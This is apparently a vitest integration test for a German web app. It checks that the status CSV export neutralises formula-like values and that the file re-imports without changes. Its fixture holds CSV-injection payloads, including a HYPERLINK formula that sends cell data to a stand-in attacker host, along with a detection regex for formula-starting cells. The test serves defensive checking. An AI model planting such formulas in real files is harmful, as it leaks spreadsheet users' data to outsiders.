// Item 9 of issue 10 against the real server: an editor saves text that a spreadsheet would take
// for a formula, the status CSV exports it so that no cell would be evaluated, and the exported
// file goes back through the real import preview without a single change.
import { parse } from 'csv-parse/sync'
import { beforeAll, expect, it } from 'vitest'
import { pageForms } from './routes'
import { describeEachServer } from './support'

// Field of the status row form → a value a spreadsheet would evaluate.
const FORMULAS: Record<string, string> = {
  notiz: '=HYPERLINK("https://evil.example/?d="&A1;"Details")',
  finanzierungsnotiz: '+1+1',
  kontakt: '-2+3',
  schnittstellenstandard: '@SUMME(1;2)',
}
// A spreadsheet evaluates a cell that starts like this (OWASP, "CSV Injection").
const EVALUATED = /^[=+\-@\t\r]/

describeEachServer('status CSV with formula-like values', (server) => {
  let cookie: string
  let csv: string

  beforeAll(async () => {
    cookie = await server.signIn('celle@demo.invalid')
    const page = '/kreise/03351/leistungen/10001'
    const html = await (await server.fetch(page, { headers: { Cookie: cookie } })).text()
    const form = pageForms(html, 'post').find((f) => f.action.startsWith(page))
    if (!form) throw new Error(`Kein Formular auf ${page}`)
    const values = new URLSearchParams(form.fields.filter((f) => !f.unchecked).map((f) => [f.name, f.value]))
    for (const [name, value] of Object.entries(FORMULAS)) values.set(name, value)
    const saved = await server.post(page, values, { cookie })
    await saved.arrayBuffer()
    if (saved.status !== 302) throw new Error(`Speichern der Zeile: ${saved.status}`)
    csv = await (await server.fetch('/export?format=csv&kreis=03351', { headers: { Cookie: cookie } })).text()
  })

  it('exports the saved values (so the check below sees them)', () => {
    for (const value of Object.values(FORMULAS)) expect(csv).toContain(value.replaceAll('"', '""'))
  })

  it('has no cell a spreadsheet would evaluate', () => {
    const rows = parse(csv, { delimiter: ';', bom: true, relax_column_count: true }) as string[][]
    expect(rows.length).toBeGreaterThan(10)
    const evaluated = rows.flatMap((row, line) => row.filter((cell) => EVALUATED.test(cell)).map((cell) => `Zeile ${line + 1}: ${cell}`))
    expect(evaluated).toEqual([])
  })

  it('re-imports through the real import preview without a change', async () => {
    const form = new FormData()
    form.append('intent', 'preview')
    form.append('datei', new File([csv], 'export.csv', { type: 'text/csv' }))
    const response = await server.fetch('/import', { method: 'POST', headers: { Origin: server.baseURL, Cookie: cookie }, body: form })
    const html = await response.text()
    const kpi = (label: string) => html.match(new RegExp(`<dt>${label}</dt><dd>(\\d+)</dd>`))?.[1]
    expect(response.status, html.slice(0, 500)).toBe(200)
    expect({ neu: kpi('Neu'), geaendert: kpi('Geändert'), fehler: kpi('Fehler') }).toEqual({ neu: '0', geaendert: '0', fehler: '0' })
    expect(Number(kpi('Unverändert'))).toBeGreaterThan(10)
  })
})
